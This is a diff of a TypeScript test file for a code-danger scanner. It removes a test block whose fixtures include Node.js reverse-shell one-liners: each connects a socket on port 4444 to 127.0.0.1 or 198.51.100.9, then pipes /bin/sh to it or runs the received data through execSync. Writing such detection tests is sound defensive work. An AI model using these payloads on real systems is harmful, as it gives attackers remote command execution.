@@ -139,31 +139,3 @@ describe("more interpreters read as code: R, PowerShell's REST client and env: d
     expect(score(t)).toBeLessThan(0.5);
   });
 });
-
-describe("round 17: a socket to this machine beside code that runs commands", () => {
-  const js = (t: string): number => scan(t, "bash", { code: "js", model: null }).score;
-  test("a database probed on loopback next to a build: clean", () => {
-    expect(
-      js(
-        'const net = require("net"); const cp = require("child_process"); cp.execSync("npm run build"); const s = net.connect(5432, "127.0.0.1", () => s.end());',
-      ),
-    ).toBeLessThan(0.5);
-  });
-  test.each([
-    ["a shell spawned by name on loopback", "127.0.0.1"],
-    ["the same to an outside address", "198.51.100.9"],
-  ])("%s: blocks", (_why, host) => {
-    expect(
-      js(
-        `const net = require("net"); const cp = require("child_process"); const s = net.connect(4444, "${host}", () => { const sh = cp.spawn("/bin/sh", []); s.pipe(sh.stdin); sh.stdout.pipe(s); });`,
-      ),
-    ).toBeGreaterThanOrEqual(0.8);
-  });
-  test("a socket outside plus commands run, no shell by name: blocks as before", () => {
-    expect(
-      js(
-        'const net = require("net"); const cp = require("child_process"); const s = net.connect(4444, "198.51.100.9"); s.on("data", (d) => cp.execSync(d.toString()));',
-      ),
-    ).toBeGreaterThanOrEqual(0.8);
-  });
-});
